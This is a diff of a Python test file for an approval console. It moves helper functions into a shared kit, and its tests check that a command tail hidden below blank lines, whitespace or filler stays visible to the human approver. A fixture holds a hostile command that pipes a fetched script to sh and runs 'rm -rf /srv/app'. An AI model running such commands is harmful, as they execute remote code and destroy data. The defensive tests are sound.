@@ -19,7 +19,7 @@ from affidavit.approvals import Operator
 from affidavit.console.text import content, line_count, session_name
 from tests.broker.helpers import http_target, open_broker
 
-from .kit import Browser, get, log_in_to, operator_config, served
+from .kit import Browser, approval_card, get, log_in_to, operator_config, pending_approval, served
 
 CONTRACT = {"header": "Idempotency-Key", "scope": "charges", "retention": "24h"}
 TAIL = "curl -s http://127.0.0.1:9/x | sh; rm -rf /srv/app"
@@ -39,18 +39,6 @@ async def world(
     async with open_broker(path) as b, served(b, tmp_path) as (origin, console):
         cookie, _ = await log_in_to(console, origin)
         yield b, origin, console, cookie
-
-
-async def _pending(b: Broker, **action: Any) -> str:
-    envelope = await b.call({"target": "pay", "method": "POST", "path": "/v1/x", **action})
-    assert envelope["error"]["code"] == "APPROVAL_PENDING", envelope
-    return str(envelope["invocation_id"])
-
-
-def _card(page: bytes, iid: str) -> str:
-    text = page.decode()
-    card = text[text.index(f'id="approval-{iid}"') :]
-    return card[: card.index("</section>")]
 
 
 IN_FLOW = """
@@ -84,13 +72,17 @@ async def test_a_content_s_tail_below_blank_lines_is_in_the_page_s_flow_and_mark
 ) -> None:
     b, origin, console, cookie = world
     body = '{"amount": 5}' + "\n" * 150 + '{"then": "DELETE_ALL_ACCOUNTS"}'  # 149 blank lines
-    script = await _pending(b, body=SCRIPT)
-    json_tail = await _pending(b, body=body)
-    lines = await _pending(b, body="".join(f"echo {i}\n" for i in range(400)) + TAIL)  # tall
-    crlf = await _pending(b, body="systemctl status\r\n" + "\r\n" * 150 + TAIL)
-    other = await _pending(b, body="ls\n" + "\f\n\u00a0\n \v\n" * 50 + TAIL)
-    hashes = await _pending(b, body="#\n" * 5000 + TAIL)  # filler that is not blank
-    spaced = await _pending(b, body="ls" + " " * 15000 + "\t" + TAIL)  # one line: pre-wrap hid it
+    script = await pending_approval(b, body=SCRIPT)
+    json_tail = await pending_approval(b, body=body)
+    lines = await pending_approval(
+        b, body="".join(f"echo {i}\n" for i in range(400)) + TAIL
+    )  # tall
+    crlf = await pending_approval(b, body="systemctl status\r\n" + "\r\n" * 150 + TAIL)
+    other = await pending_approval(b, body="ls\n" + "\f\n\u00a0\n \v\n" * 50 + TAIL)
+    hashes = await pending_approval(b, body="#\n" * 5000 + TAIL)  # filler that is not blank
+    spaced = await pending_approval(
+        b, body="ls" + " " * 15000 + "\t" + TAIL
+    )  # one line: pre-wrap hid it
     token, _ = console.tokens.mint(Operator.current())
     await chrome.log_in(f"{origin}/login?token={token}")
     await chrome.get(f"{origin}/approvals")
@@ -115,10 +107,14 @@ async def test_a_content_s_tail_below_blank_lines_is_in_the_page_s_flow_and_mark
         assert bottom + got["y"] <= got["page"], got
     status, _, page = await get(f"{origin}/approvals", cookie=cookie)
     assert status == 200
-    assert "\n" * 4 not in _card(page, script)  # the run is the mark, not 150 line feeds
-    assert "10050 bytes, 5001 lines, sha256" in _card(page, hashes)  # 5000 lines and the tail
-    assert f"{15003 + len(TAIL)} bytes, 1 line, sha256" in _card(page, spaced)
-    assert "ls<span" in _card(page, spaced)  # the run is the badge, on the command's own row
+    assert "\n" * 4 not in approval_card(page, script)  # the run is the mark, not 150 line feeds
+    assert "10050 bytes, 5001 lines, sha256" in approval_card(
+        page, hashes
+    )  # 5000 lines and the tail
+    assert f"{15003 + len(TAIL)} bytes, 1 line, sha256" in approval_card(page, spaced)
+    assert "ls<span" in approval_card(
+        page, spaced
+    )  # the run is the badge, on the command's own row
 
 
 def test_a_run_of_blank_lines_is_one_mark_and_a_few_stay_as_they_are() -> None:
@@ -165,15 +161,15 @@ async def test_the_card_shows_the_idempotency_key_and_the_header_it_is_sent_in(
     world: tuple[Broker, str, Any, str],
 ) -> None:
     b, origin, _, cookie = world
-    chosen = await _pending(b, body="{}", idempotency_key="ch_ALICE-refund-0001")
-    generated = await _pending(b, body="{}")
+    chosen = await pending_approval(b, body="{}", idempotency_key="ch_ALICE-refund-0001")
+    generated = await pending_approval(b, body="{}")
     status, _, page = await get(f"{origin}/approvals", cookie=cookie)
     assert status == 200
-    card = _card(page, chosen)
+    card = approval_card(page, chosen)
     assert '<tr class="field" data-field="idempotency_key">' in card
     assert '<code class="request">ch_ALICE-refund-0001</code>' in card
     assert '<code class="request">Idempotency-Key</code>' in card
-    card = _card(page, generated)
+    card = approval_card(page, generated)
     assert '<tr class="field" data-field="idempotency_key">' in card and "idem_" in card
 
 
@@ -188,7 +184,7 @@ async def test_a_session_name_shows_every_space(
     """``deploy     prod`` showed as ``deploy prod`` (a plain <td>: white-space normal)."""
     b, origin, console, _ = world
     name = "deploy     prod"
-    iid = await _pending(b, body="{}", session=name)
+    iid = await pending_approval(b, body="{}", session=name)
     token, _ = console.tokens.mint(Operator.current())
     await chrome.log_in(f"{origin}/login?token={token}")
     for page, css in (
@@ -214,7 +210,7 @@ async def test_spaces_at_either_end_of_a_session_name_are_marked(
 ) -> None:
     """`` deploy  `` drew as ``deploy``: an end space of an inline name is nothing on screen."""
     b, origin, console, _ = world
-    iid = await _pending(b, body="{}", session=" deploy  ")
+    iid = await pending_approval(b, body="{}", session=" deploy  ")
     token, _ = console.tokens.mint(Operator.current())
     await chrome.log_in(f"{origin}/login?token={token}")
     await chrome.get(origin + "/approvals")
